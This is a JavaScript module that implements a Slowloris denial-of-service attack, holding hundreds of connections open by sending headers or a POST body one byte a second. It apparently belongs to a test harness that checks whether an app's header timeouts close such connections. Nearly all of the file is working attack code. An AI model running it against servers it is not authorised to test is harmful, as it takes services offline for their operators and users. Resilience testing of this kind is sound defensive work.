// Slowloris: many TCP connections that send a request's headers one byte a second and never
// finish them, and a few that send a POST's body one byte a second.
import { flood } from '../attack-client.mjs';

export const summary = '500 connections sending headers 1 byte/s, 10 sending a POST body 1 byte/s';

/** Long enough to see the app's header timeout (HTTP_HEADERS_TIMEOUT_MS, 10 s by default) act. */
export const minimumAbuseMs = 12_000;

const HEADER_CONNECTIONS = 500;
const BODY_CONNECTIONS = 10;
const CONNECTS_IN_FLIGHT = 50;
const BYTE_EVERY_MS = 1_000;
const DECLARED_BODY_BYTES = 90_000;

function opening(kind, host) {
  if (kind === 'headers') return `GET /api/health HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `;
  return (
    `POST /api/chat-conversations HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${DECLARED_BODY_BYTES}\r\n\r\n{"username":"`
  );
}

export async function attack(client, _state, { signal, tally }) {
  const open = new Set();
  const kinds = [
    ...Array(BODY_CONNECTIONS).fill('body'),
    ...Array(HEADER_CONNECTIONS).fill('headers'),
  ];
  const trickle = setInterval(() => {
    for (const socket of open) socket.write('a');
  }, BYTE_EVERY_MS);
  try {
    let next = 0;
    const done = new AbortController();
    signal.addEventListener('abort', () => done.abort());
    await flood(done.signal, CONNECTS_IN_FLIGHT, async () => {
      if (next >= kinds.length) return done.abort();
      const kind = kinds[next++];
      const connected = await client.connect();
      if (!connected.socket) {
        if (!client.closed) tally.add(`${kind} connections refused (${connected.refused})`);
        return;
      }
      const { socket } = connected;
      const openedAt = performance.now();
      tally.add(`${kind} connections opened`);
      open.add(socket);
      socket.on('data', (data) => {
        const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1];
        if (status) tally.add(`${kind} answered HTTP ${status}`);
      });
      socket.once('close', () => {
        open.delete(socket);
        if (client.closed) return;
        const seconds = Math.round((performance.now() - openedAt) / 1000);
        tally.add(`${kind} closed by the app after ${seconds} s`);
      });
      socket.write(opening(kind, client.host));
    });
    await new Promise((resolve) =>
      signal.aborted ? resolve() : signal.addEventListener('abort', resolve),
    );
  } finally {
    clearInterval(trickle);
  }
}
